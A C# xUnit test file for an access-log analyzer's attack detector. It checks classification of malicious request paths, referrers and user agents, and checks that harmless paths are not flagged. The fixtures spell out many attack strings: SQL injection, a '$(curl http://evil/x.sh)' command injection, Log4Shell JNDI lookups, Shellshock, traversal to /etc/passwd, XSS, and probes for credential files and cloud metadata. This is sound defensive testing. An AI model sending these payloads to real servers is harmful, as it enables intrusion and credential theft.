using System.Buffers;
using System.Text;

namespace AccessLogs.Tests;

public sealed class AttackTests
{
    private static readonly AnalysisOptions Options = new() { Attacks = true };

    private static readonly (string Kind, string Path)[] Known =
    [
        ("sql injection", "/p?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--"), ("sql injection", "/p?id=1+union+all+select+1"), ("sql injection", "/p?id=1/**/union/**/select/**/1"),
        ("sql injection", "/p?id=1%2527%2520or%25201%253D1"), ("sql injection", "/p?q=SLEEP(5)"), ("command injection", "/cgi?x=;cat%20/etc/hosts"),
        ("command injection", "/x?a=$(curl%20http://evil/x.sh)"), ("command injection", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array"),
        ("xss", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ("xss", "/s?q=%253Csvg%2520onload%253D1"), ("traversal", "/../../etc/passwd"), ("traversal", "/%2e%2e/%2e%2e/etc/passwd"),
        ("traversal", "/..%252f..%252fwin.ini"), ("traversal", "/a/..%5c..%5cboot.ini"), ("log4shell", "/?x=${jndi:ldap://evil/a}"), ("log4shell", "/?x=%24%7bjndi:${lower:l}dap://evil/a%7d"),
        ("sql injection", "/p?id=1;DROP+TABLE+users"), ("sql injection", "/login?user[$ne]=x"), ("command injection", "/s?q=%7B%7B7*7%7D%7D"), ("command injection", "/%{(#_='multipart/form-data')}"),
        ("shell upload", "/uploads/c99.php?x=1+1"), ("scanner", "/.env"), ("scanner", "/.git/config"), ("scanner", "/%2eenv"), ("scanner", "/.aws/credentials"),
    ];

    private static readonly string[] Harmless =
    [
        "/", "/index.html", "/search?q=drop+the+table+order", "/search?q=it%27s+or+was", "/a..b/c.css", "/caf%C3%A9?x=100%25", "/select/union", "/image(1).png", "/wp-login.php", "/.well-known/security.txt",
        "/products?filter[a]=1&sort=order", "/scripts/app.js", "/union-station?selected=1", "/%E2%82%AC?x=a;b",
    ];

    public static TheoryData<string, string> Attacks()
    {
        var data = new TheoryData<string, string>();
        foreach (var (kind, path) in Known)
        {
            data.Add(kind, path);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_request_is_of_its_kind(string kind, string path)
    {
        using var accumulator = Count(Line("10.0.0.1", path, 200));
        var row = Assert.Single(accumulator.ToReport([]).Panel("attacks").Rows);
        Assert.Equal((kind, 1), (row.Name, row.Hits));
    }

    [Fact]
    public void What_people_ask_for_is_no_attack()
    {
        using var accumulator = Count(string.Concat(Harmless.Select(path => Line("10.0.0.1", path, 200))));
        Assert.DoesNotContain("attacks", accumulator.ToReport([]).Panels.Select(panel => panel.Name));
    }

    [Theory]
    [InlineData("log4shell", "-", "${jndi:dns://x}")]
    [InlineData("log4shell", "${${lower:j}ndi:rmi://x}", "x")]
    [InlineData("command injection", "-", "() { :; }; /bin/bash -c 'id'")]
    [InlineData("scanner", "-", "Mozilla/5.0 zgrab/0.x")]
    public void Referrers_and_user_agents_attack_too(string kind, string referrer, string agent)
    {
        using var accumulator = Count(Line("10.0.0.1", "/", 200, referrer, agent));
        Assert.Equal(kind, Assert.Single(accumulator.ToReport([]).Panel("attacks").Rows).Name);
    }

    [Theory]
    [InlineData("/wp-login.php")]
    [InlineData("/docker-compose.yml")]
    [InlineData("/?author=1")]
    [InlineData("/db.sql.gz")]
    [InlineData("/proxy?url=http://169.254.169.254/latest/meta-data/iam")]
    public void A_program_that_is_not_there_is_a_door_that_was_tried(string path)
    {
        using var accumulator = Count(Line("10.0.0.1", path, 404) + Line("10.0.0.2", path, 200));
        Assert.Equal(1, Assert.Single(accumulator.ToReport([]).Panel("attacks").Rows).Hits);
    }

    /// <summary>Lines of which it is known what they are, in any order and any parts.</summary>
    [Fact]
    public void Kinds_clients_and_the_first_lines_are_those_that_were_put_in()
    {
        var random = new Random(5);
        var lines = Enumerable.Range(0, 3_000).Select(i => random.Next(3) > 0 ? ("", Harmless[random.Next(Harmless.Length)]) : Known[random.Next(Known.Length)])
            .Select(line => (Kind: line.Item1, Host: $"10.0.0.{random.Next(9)}", Path: line.Item2)).ToList();
        using var whole = Count(string.Concat(lines.Select(line => Line(line.Host, line.Path, 200))));
        var report = whole.ToReport([]);
        var attacks = lines.Where(line => line.Kind.Length > 0).ToList();
        Assert.Equal(
            attacks.GroupBy(line => line.Kind).Select(kind => (kind.Key, (long)kind.Count(), (long)kind.Select(line => line.Host).Distinct().Count())).Order(),
            report.Panel("attacks").Rows.Select(row => (row.Name, row.Hits, row.Visitors)).Order());
        Assert.Equal(
            attacks.GroupBy(line => (line.Host, line.Kind)).Select(group => (group.Key.Host, group.Key.Kind, (long)group.Count())).Order(),
            report.Panel("attack_sources").Rows.SelectMany(row => row.Items.Select(item => (row.Name, item.Name, item.Hits))).Order());
        foreach (var row in report.Panel("attacks").Rows)
        {
            Assert.Equal(attacks.Where(line => line.Kind == row.Name).Take(10).Select(line => Line(line.Host, line.Path, 200).TrimEnd()), row.Items.Select(item => item.Name));
        }

        using var merged = new AccessLogAccumulator(Options, AccessLogFormat.Combined);
        var parts = lines.Chunk(250).Select((part, i) => (Text: string.Concat(part.Select(line => Line(line.Host, line.Path, 200))), Place: lines.Take(i * 250).Sum(line => Line(line.Host, line.Path, 200).Length))).ToArray();
        random.Shuffle(parts);
        foreach (var (text, place) in parts)
        {
            using var part = new AccessLogAccumulator(Options, AccessLogFormat.Combined);
            part.StartSplit(0, place);
            part.Add(Encoding.ASCII.GetBytes(text));
            merged.Merge(new ReadOnlySequence<byte>(Reports.Wire(part)));
        }

        Assert.Equal(Encoding.UTF8.GetString(Reports.Json(whole)), Encoding.UTF8.GetString(Reports.Json(merged)));
    }

    [Fact]
    public void Attacks_can_be_chosen_and_grouped_by()
    {
        using var accumulator = new AccessLogAccumulator(new AnalysisOptions { Where = "attack!='' and attack!=scanner", Groups = [new GroupBy("attack,host")] }, AccessLogFormat.Combined);
        accumulator.Add(Encoding.ASCII.GetBytes(string.Concat(Known.Select(attack => Line("h", attack.Path, 200))) + Line("h", "/", 200)));
        Assert.Equal(Known.Count(attack => attack.Kind != "scanner"), accumulator.ToReport([]).General.ValidRequests);
        Assert.Contains("xss | h", accumulator.ToReport([]).Panel("by_attack_host").Rows.Select(row => row.Name));
    }

    /// <summary>The panels ask once for each text, a group asks for each line: the same paths are answered and refused, by and from whomever.</summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void What_is_found_by_the_texts_of_lines_is_what_is_found_line_by_line(bool keepsSlices)
    {
        var random = new Random(11);
        string[] paths = [.. Known.Select(attack => attack.Path), .. Harmless, "/wp-login.php", "/cgi-bin/x", "/a/.env.bak"];
        string[] referrers = ["-", "http://a/", "${jndi:dns://x}", "http://b/?q=<script>alert(1)"];
        string[] agents = ["x", "Mozilla/5.0 zgrab/0.x", "() { :; }; /bin/bash -c 'id'", "curl/8"];
        int[] statuses = [200, 301, 403, 404, 500];
        T Any<T>(T[] all) => all[random.Next(3) == 0 ? 0 : random.Next(all.Length)];
        var lines = Enumerable.Range(0, 5_000).Select(i => Line($"10.0.0.{random.Next(9)}", Any(paths), Any(statuses), Any(referrers), Any(agents)).Replace("10:05:03", $"{i / 250:00}:05:03", StringComparison.Ordinal));
        using var accumulator = new AccessLogAccumulator(Options with { Groups = [new GroupBy("attack"), new GroupBy("host,attack")] }, AccessLogFormat.Combined) { KeepsSlices = keepsSlices };
        accumulator.Add(Encoding.ASCII.GetBytes(string.Concat(lines)));
        var report = accumulator.ToReport([]);
        static IEnumerable<(string Name, long Hits, long Visitors)> Rows(IEnumerable<ReportRow> rows) => rows.Select(row => (row.Name, row.Hits, row.Visitors)).Order();
        Assert.Equal(Rows(report.Panel("by_attack").Rows.Where(row => row.Name != "-")), Rows(report.Panel("attacks").Rows));
        Assert.Equal(
            Rows(report.Panel("by_host_attack").Rows.Where(row => !row.Name.EndsWith("| -", StringComparison.Ordinal))),
            Rows(report.Panel("attack_sources").Rows.SelectMany(row => row.Items.Select(item => item with { RawName = Encoding.ASCII.GetBytes($"{row.Name} | {item.Name}") }))));
    }

    private static AccessLogAccumulator Count(string log)
    {
        var accumulator = new AccessLogAccumulator(Options, AccessLogFormat.Combined);
        accumulator.Add(Encoding.ASCII.GetBytes(log));
        return accumulator;
    }

    private static string Line(string host, string path, int status, string referrer = "-", string agent = "Mozilla/5.0 (X11; Linux x86_64; rv:90.0) Gecko/20100101 Firefox/90.0") =>
        $"{host} - - [17/May/2015:10:05:03 +0000] \"GET {path} HTTP/1.1\" {status} 1 \"{referrer}\" \"{agent}\"\n";
}
